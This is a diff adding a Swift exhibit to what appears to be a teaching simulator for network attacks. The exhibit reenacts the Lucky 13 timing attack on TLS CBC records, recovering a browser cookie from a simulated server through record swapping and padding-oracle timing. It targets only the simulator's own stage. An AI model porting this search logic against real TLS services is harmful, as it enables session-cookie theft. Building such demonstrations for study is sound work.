@@ -1,0 +1,118 @@
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// A server that computes a MAC whatever the padding says, but over more or less data, gives a cookie away (AlFardan and Paterson 2013).
+package enum Lucky13: Exhibit {
+    package static let card = Card(
+        "lucky13", .record, .inPath, .read, variants: ["block", "short"], unit: "records", year: 2013,
+        cites: [.rfc(5246, "6.2.3.2"), .rfc(7366, "1")], cves: ["CVE-2013-0169"], words: Lucky13Card.self)
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let digits = show.variant == "short" ? 2 : BlockRecord.size
+        let browser = try Browser(
+            show, on: stage, digits: digits, costs: PaddingOracle.costs,
+            server: { $0.recordRules.balancesCompressions = show.isDefended })
+        let attacker = show.attacker(on: stage)
+        browser.begin(attacker)
+        var search = Lucky13Search(RecordSwap(attacker, browser), digits: digits)
+        var outcome = Outcome()
+        outcome.say(PaddingOracleNote.costs(microseconds: PaddingOracle.costs.compression.microseconds))
+        outcome.say(Lucky13Note.cuts)
+        outcome.say(Lucky13Note.pair)
+        let cookie = search.run()
+        outcome.tries = search.swap.count
+        outcome.reached = cookie?.count == digits
+        outcome.loot = cookie.map { [("cookie", $0)] } ?? []
+        outcome.truth = [("cookie", browser.cookie)]
+        outcome.theory = .sum(
+            [.uniform(256)] + Array(repeating: .uniform(16), count: digits - 2),
+            "uniform(256) for two digits together, then uniform(16) for each of L - 2", [("L", Double(digits))])
+        outcome.evidence = [
+            ("server", .socket(Socket(.server, 443))), ("client", .socket(IPv4Address.client)),
+            ("compression_us", .number(Int(PaddingOracle.costs.compression.microseconds))),
+        ]
+        outcome.connections = [0, 1, search.first?.answer.connection ?? 2, browser.connections - 1]
+        if let first = search.first {
+            outcome.say(
+                Lucky13Note.hit(String(decoding: first.guess, as: UTF8.self), after: first.answer.time),
+                frames: [first.answer.frame, first.answer.answer])
+        }
+        outcome.say(PaddingOracleNote.times(search.times.sorted { $0.key < $1.key }.map { ($0.key, $0.value) }))
+        if let cookie {
+            outcome.say(PaddingOracleNote.read(String(decoding: cookie, as: UTF8.self)), [.init("cookie", cookie)])
+        } else {
+            outcome.say(Lucky13Note.nothing, cite: .rfc(5246, "6.2.3.2"))
+        }
+        outcome.reproduce = [
+            "tshark -r FILE -Y 'tls.record.content_type==21 && ip.src==10.0.0.2' -T fields -e tcp.time_delta | sort | uniq -c"
+        ]
+        return outcome
+    }
+}
+
+/// How the attacker goes about it: the last two digits together, then digit after digit.
+private struct Lucky13Search {
+    private(set) var swap: RecordSwap
+    /// The first guess whose answer came sooner than others.
+    private(set) var first: (guess: [UInt8], answer: RecordSwap.Answer)?
+    /// How many answers took how many microseconds.
+    private(set) var times: [Int64: Int] = [:]
+    private let digits: Int
+    private let path: [UInt8]
+
+    init(_ swap: RecordSwap, digits: Int) {
+        self.swap = swap
+        self.digits = digits
+        let excess = (Browser.head(path: []).count + digits) % BlockRecord.size
+        path = [UInt8](repeating: UInt8(ascii: "a"), count: (BlockRecord.size - excess) % BlockRecord.size)
+    }
+
+    /// The cookie; nil if all answers come after the same time.
+    mutating func run() -> [UInt8]? {
+        var known: [UInt8] = []
+        while known.count < digits {
+            let singles = Browser.digits.map { [$0] }
+            let guesses = known.isEmpty ? singles.flatMap { one in singles.map { one + $0 } } : singles
+            guard let found = quick(among: guesses, knowing: known) else { return nil }
+            known = found + known
+        }
+        return known
+    }
+
+    /// The guess that is answered sooner than others.
+    private mutating func quick(among guesses: [[UInt8]], knowing known: [UInt8]) -> [UInt8]? {
+        var asked: [(guess: [UInt8], answer: RecordSwap.Answer)] = []
+        for guess in guesses {
+            guard let answer = ask(guess + known) else { return nil }
+            times[answer.time, default: 0] += 1
+            asked.append((guess, answer))
+            if let slow = times.keys.max(), let hit = asked.first(where: { $0.answer.time < slow }) {
+                if first == nil { first = hit }
+                return hit.guess
+            }
+        }
+        return nil
+    }
+
+    /// Asks with a record of an IV and four blocks, the last of which is the cookie's: if `end` is its end, it becomes padding.
+    private mutating func ask(_ end: [UInt8]) -> RecordSwap.Answer? {
+        let size = BlockRecord.size
+        let padding = UInt8(truncatingIfNeeded: end.count - 1)
+        let mask = [UInt8](repeating: 0, count: size - end.count) + end.map { $0 ^ padding }
+        let place = (Browser.head(path: path).count + digits) / size - 1
+        return swap.ask(path: path) { octets in
+            let record = BlockRecord(octets)
+            let blocks = [
+                record.block(-1), record.block(0), record.block(1), record.block(place - 1) ^ mask, record.block(place),
+            ]
+            // The rest of the segment looks like the beginning of another record, which the server does not come to.
+            let rest = octets.dropFirst(5 + 5 * size)
+            let header: [UInt8] = [ContentType.applicationData.rawValue, 3, 3, 0]
+            return header + [UInt8(5 * size)] + blocks.joined() + header
+                + [UInt8(truncatingIfNeeded: max(5, rest.count) - 5)] + rest.dropFirst(5)
+        }
+    }
+}
